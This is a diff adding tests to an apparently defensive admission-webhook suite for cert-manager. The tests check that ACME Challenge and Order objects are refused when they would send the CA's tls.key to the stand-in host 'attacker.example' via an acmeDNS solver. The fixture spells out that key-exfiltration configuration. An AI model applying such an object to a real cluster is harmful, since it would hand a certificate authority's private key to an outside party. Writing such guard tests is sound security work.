@@ -254,6 +254,54 @@ def test_other_issuers_are_as_before(world: World) -> None:
         assert answer.allowed, answer
 
 
+ACME = f"apis/acme.cert-manager.io/v1/namespaces/{CLIENTS}"
+ACCOUNT = {"host": "https://attacker.example", "accountSecretRef": {"name": CA, "key": "tls.key"}}
+
+
+def challenge(account: Object) -> Object:
+    spec = {
+        "authorizationURL": "https://attacker.example/authorization",
+        "dnsName": "example.com",
+        "issuerRef": {"name": "somebody-elses"},
+        "key": "k",
+        "solver": {"dns01": {"acmeDNS": account}},
+        "token": "t",
+        "type": "DNS-01",
+        "url": "https://attacker.example/challenge",
+    }
+    return {
+        "apiVersion": "acme.cert-manager.io/v1",
+        "kind": "Challenge",
+        "metadata": {"name": "mine", "namespace": CLIENTS},
+        "spec": spec,
+    }
+
+
+def order(issuer: str) -> Object:
+    request = certificate_request("x", issuer)["spec"]["request"]
+    return {
+        "apiVersion": "acme.cert-manager.io/v1",
+        "kind": "Order",
+        "metadata": {"name": "mine", "namespace": CLIENTS},
+        "spec": {"request": request, "issuerRef": {"name": issuer}, "dnsNames": ["example.com"]},
+    }
+
+
+def test_no_challenge_sends_the_cas_key_away(world: World) -> None:
+    """cert-manager would present what it finds in that Secret to the host that is named."""
+    for user in (world.admin, world.fire_fighter, world.operator, world.cert_manager):
+        answer = user.create(f"{ACME}/challenges", challenge(ACCOUNT))
+        assert answer.refused_by(ISSUERS, "operator-guard.cloister.dev"), (user.name, answer)
+        answer = user.create(f"{ACME}/orders", order(CA))
+        assert answer.refused_by(ISSUERS, "operator-guard.cloister.dev"), (user.name, answer)
+
+
+def test_other_challenges_and_orders_are_as_before(world: World) -> None:
+    own = {"host": "https://dns.example", "accountSecretRef": {"name": "own", "key": "k"}}
+    assert (answer := world.admin.create(f"{ACME}/challenges", challenge(own))).allowed, answer
+    assert (answer := world.admin.create(f"{ACME}/orders", order("somebody-elses"))).allowed, answer
+
+
 # --- the CA's Secret ---
 
 SECRET_WRITES: dict[str, Callable[[User, str], Answer]] = {
